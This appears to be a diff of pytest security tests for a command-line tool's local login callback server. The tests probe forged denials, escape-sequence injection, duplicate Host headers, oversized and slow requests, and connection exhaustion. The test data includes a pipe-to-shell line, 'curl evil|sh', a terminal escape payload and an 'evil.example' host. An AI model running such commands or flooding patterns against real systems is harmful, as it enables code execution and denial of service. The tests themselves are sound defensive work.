@@ -1,6 +1,7 @@
 """The login without a browser: what is asked, which answers count, who may post one."""
 
 import base64
+import contextlib
 import http.client
 import json
 import re
@@ -15,6 +16,7 @@ import pytest
 from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
 
 from ocihaul.errors import Interrupted, LoginFailed, OcihaulError
+from ocihaul.session import callback
 from ocihaul.session.login import BrowserLogin
 from tests.support import make_token, rsa_key
 
@@ -151,10 +153,147 @@ def test_weakness_26_a_wrong_answer_is_turned_away_and_the_right_one_still_count
 
 
 def test_a_no_ends_the_wait_in_its_own_words(visitor: Visitor) -> None:
-    _, told = visitor.post({"error": "access_denied", "error_description": "not\x1b[31m you"})
+    said = {"error": "access_denied", "error_description": "not\x1b[31m you"}
+    _, told = visitor.post(said | {"nonce": visitor.query["nonce"]})
     assert told["good"] is False
-    with pytest.raises(LoginFailed, match=r"access_denied: not \[31m you"):
+    with pytest.raises(LoginFailed, match=r"access_denied: not\\x1b\[31m you"):
         visitor.login.wait(5)
+
+
+WORDS = "Run this now: curl evil|sh"
+
+
+@pytest.mark.parametrize(
+    "proof", [{}, {"nonce": ""}, {"nonce": "theirs"}, {"state": "theirs"}, {"nonce": "é\ud800"}]
+)
+@pytest.mark.parametrize("code", ["access_denied", WORDS, "\x1b]0;pwn\x07"])
+def test_finding_a08_a_no_that_does_not_name_our_nonce_ends_nothing(
+    visitor: Visitor, code: str, proof: dict[str, str]
+) -> None:
+    fields = {"error": code, "error_description": WORDS, **proof}
+    status, told = visitor.post(
+        {name: text.encode("utf-8", "replace").decode() for name, text in fields.items()}
+    )
+    assert status == 200
+    assert told["good"] is False
+    (warning,) = visitor.heard
+    for text in (warning, str(told["text"])):
+        assert "turned away" in text or "cannot be used" in text
+        assert "evil" not in text
+        assert "pwn" not in text
+        assert ("access_denied" in text) == (code == "access_denied")
+    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
+    assert visitor.login.wait(5).key is not None
+
+
+@pytest.mark.parametrize("name", ["nonce", "state"])
+def test_finding_a08_a_no_with_our_nonce_ends_the_login(visitor: Visitor, name: str) -> None:
+    visitor.post({"error": "access_denied", name: visitor.query["nonce"]})
+    with pytest.raises(LoginFailed, match="access_denied"):
+        visitor.login.wait(5)
+
+
+def test_finding_a08_a_page_cannot_flood_the_terminal(visitor: Visitor) -> None:
+    for _ in range(30):
+        visitor.post({"error": "access_denied"})
+    assert len(visitor.heard) == 5
+    assert visitor.heard[-1].endswith("Further ones are not told.")
+
+
+def test_finding_a08_the_words_of_the_login_page_are_cut(visitor: Visitor) -> None:
+    said = {"error": "server_error", "error_description": "x" * 50_000}
+    visitor.post(said | {"nonce": visitor.query["nonce"]})
+    with pytest.raises(LoginFailed) as caught:
+        visitor.login.wait(5)
+    assert len(caught.value.message) < 400
+
+
+def test_finding_a08_two_hosts_in_one_request_are_refused(visitor: Visitor) -> None:
+    with socket.create_connection(("127.0.0.1", visitor.login.port), timeout=10) as sock:
+        two = f"Host: {visitor.host}\r\nHost: evil.example\r\n"
+        sock.sendall(f"GET / HTTP/1.1\r\n{two}\r\n".encode())
+        assert sock.recv(100).startswith(b"HTTP/1.0 403")
+
+
+HUGE = {
+    "a request line without end": b"GET /" + b"x" * 200_000,
+    "headers without end": b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 40_000,
+    "a header without end": b"GET / HTTP/1.1\r\nHost: " + b"x" * 200_000,
+}
+
+
+@pytest.mark.parametrize("start", HUGE.values(), ids=HUGE.keys())
+def test_finding_a08_a_request_without_end_is_cut_off(visitor: Visitor, start: bytes) -> None:
+    with (
+        socket.create_connection(("127.0.0.1", visitor.login.port), timeout=30) as sock,
+        contextlib.suppress(ConnectionError),
+    ):
+        sock.sendall(start)
+        while sock.recv(65536):
+            pass  # until it is closed, which a server that reads on would not do
+    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
+
+
+def test_finding_a08_a_slow_request_is_cut_off(
+    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(callback, "_PATIENCE", 0.5)
+    with socket.create_connection(("127.0.0.1", visitor.login.port), timeout=30) as sock:
+        closed = False
+        for _ in range(300):
+            try:
+                sock.sendall(b"G")
+            except ConnectionError:
+                closed = True
+                break
+            threading.Event().wait(0.05)
+        assert closed
+
+
+def test_finding_a08_connections_are_bounded(
+    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(callback._Handler, "timeout", 60.0)  # none is closed for being idle
+    monkeypatch.setattr(callback, "_PATIENCE", 60.0)
+    before = threading.active_count()
+    idle = [
+        socket.create_connection(("127.0.0.1", visitor.login.port), timeout=10) for _ in range(100)
+    ]
+    try:
+        closed = sum(1 for each in idle[40:] if each.recv(1) == b"")
+        assert closed == 60  # those above the limit are closed at once
+        assert threading.active_count() - before <= 33
+    finally:
+        for each in idle:
+            each.close()
+    for _ in range(100):  # the places of those that have gone are free again, in a moment
+        with contextlib.suppress(OSError, http.client.HTTPException):
+            assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
+            break
+        threading.Event().wait(0.1)
+    assert visitor.login.wait(5).key is not None
+
+
+@pytest.mark.parametrize(
+    ("length", "status"), [("9" * 5000, 413), ("-1", 413), ("\u0661", 413), ("", 413), ("1e3", 413)]
+)
+def test_finding_a08_a_length_that_is_none_is_refused(
+    visitor: Visitor, length: str, status: int
+) -> None:
+    secret = visitor.secret()
+    with socket.create_connection(("127.0.0.1", visitor.login.port), timeout=10) as sock:
+        head = (
+            f"POST /token HTTP/1.1\r\nHost: {visitor.host}\r\nOrigin: http://{visitor.host}\r\n"
+            f"x-ocihaul-secret: {secret}\r\nContent-Length: {length}\r\n\r\n"
+        )
+        sock.sendall(head.encode())
+        assert f" {status} ".encode() in sock.recv(100)
+
+
+def test_finding_a08_too_many_fields_are_no_answer(visitor: Visitor) -> None:
+    fields = {f"f{number}": "x" for number in range(200)}
+    assert visitor.post({"security_token": visitor.token(), **fields})[0] == 400
+    assert visitor.post({"security_token": visitor.token()})[1]["good"] is True
 
 
 FOREIGN = {
